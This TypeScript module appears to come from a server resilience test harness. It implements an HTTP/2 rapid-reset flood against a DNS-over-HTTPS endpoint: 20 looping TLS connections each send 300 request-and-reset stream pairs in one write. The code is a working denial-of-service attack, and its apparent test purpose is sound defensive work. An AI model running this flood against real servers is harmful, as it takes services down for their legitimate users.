/** HTTP/2: all that a session may ask and give up, in one write, again and again on new connections. */
import { PREFACE, request, reset } from '../../support/http2-frames.ts';
import { dialTls, query } from './guest.ts';
import { type StrangerAttack, stranger } from './stranger.ts';

const PAIRS = 300;

export const attack: StrangerAttack = {
  title: 'Streams of HTTP/2 that are given up in the same write',
  innocents: 'tls',
  strike: ({ httpsPort }) => {
    const octets = everything();
    const come = (index: number): void => {
      const socket = dialTls(httpsPort, index, 'h2');
      socket.on('secureConnect', () => socket.write(octets)).resume();
      // The server sends it away, or says nothing more.
      const bored = setTimeout(() => socket.destroy(), 100);
      socket.on('close', () => {
        clearTimeout(bored);
        setTimeout(come, 10, index);
      });
    };
    for (let index = 0; index < 20; index += 1) come(index);
  },
};

function everything(): Buffer {
  const path = `/dns-query?dns=${query('www.static.example').subarray(2).toString('base64url')}`;
  const pairs = Array.from({ length: PAIRS }, (_, index) => [
    request(2 * index + 1, path),
    reset(2 * index + 1),
  ]);
  return Buffer.concat([PREFACE, ...pairs.flat()]);
}

if (import.meta.main) stranger(attack, import.meta.filename);
